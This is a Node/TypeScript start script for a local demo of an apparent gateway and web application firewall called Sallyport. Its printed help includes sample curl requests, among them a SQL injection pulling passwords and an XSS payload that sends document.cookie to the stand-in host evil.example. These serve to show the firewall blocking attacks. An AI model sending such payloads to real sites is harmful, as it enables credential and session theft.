/** `npm start`: two small origins and Sallyport in front of them, on this machine. Options: --json, --listen host:port. */
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { API_PORT, startOrigins, WEB_PORT } from '../examples/shop/origins.ts';
import { egressPolicy } from '../src/cli/egress.ts';
import { Failure, sentence } from '../src/cli/failure.ts';
import type { GatewayEvent } from '../src/cli/gateway.ts';
import { listenAddress } from '../src/cli/options.ts';
import { humanAccess, humanReport, jsonAccess, jsonReport } from '../src/cli/report.ts';
import { runGateway } from '../src/cli/serve.ts';
import { build, root } from './build.ts';

const policy = join(root, 'examples', 'shop', 'sallyport.yaml');
const args = process.argv.slice(2);
const json = args.includes('--json');

try {
  await start();
} catch (error) {
  if (!(error instanceof Failure) && !(error instanceof Error && 'syscall' in error)) throw error;
  process.stderr.write(`sallyport: ${sentence(error)}\n`);
  process.exit(1);
}

async function start(): Promise<void> {
  if (!existsSync(policy)) throw new Failure(`there is no file ${policy}`);
  const listen = args.indexOf('--listen');
  const unknown = args.find(
    (argument, at) => argument !== '--json' && at !== listen && (listen < 0 || at !== listen + 1),
  );
  if (unknown !== undefined) throw new Failure(`npm start takes -- --listen host:port and -- --json, not "${unknown}"`);
  const address = listenAddress(listen < 0 ? '127.0.0.1:8080' : (args[listen + 1] ?? ''));
  const built = await build();
  if (built.length > 0) process.stderr.write(`built ${built.join(', ')}\n`);
  const origins = await startOrigins().catch((error: NodeJS.ErrnoException & { port?: number }) => {
    if (error.code !== 'EADDRINUSE') throw error;
    throw new Failure(`port ${error.port} is already in use; the example's origins need ${WEB_PORT} and ${API_PORT}`);
  });
  process.on('exit', () => origins.close());
  await runGateway({
    files: [policy],
    ...address,
    workers: 1,
    tls: null,
    authorities: [],
    egress: egressPolicy([], true),
    secrets: new Map(),
    grace: 2000,
    maxMemory: 1024 * 1048576,
    v8Flags: [],
    state: null,
    watch: true,
    report: json ? jsonReport : (event) => say(event),
    access: json ? jsonAccess : humanAccess,
  });
}

function say(event: GatewayEvent): void {
  humanReport(event);
  if (event.event === 'ready') process.stdout.write(tryThis(event.url));
}

function tryThis(url: string): string {
  return `
Try, in another terminal:

  curl -i ${url}/
  curl -i ${url}/api/products
  curl -i ${url}/api/headers
  curl -i --get --data-urlencode "q=lantern" ${url}/search
  curl -i --get --data-urlencode "q=1' UNION SELECT password FROM users--" ${url}/search
  curl -i --get --data-urlencode 'q=<script>fetch("//evil.example?"+document.cookie)</script>' ${url}/search
  curl -i ${url}/admin

The last three are blocked: two attacks by the web application firewall, whose events stand in the lines below, and the stock
room by a rule of examples/shop/sallyport.yaml; edit that file and it is swapped in at once. What the firewall saw, and how
to let a request through: npx sallyport explain examples/shop/sallyport.yaml 'GET ${url}/search?q=...'
Ctrl-C stops everything. One line per request follows.

`;
}
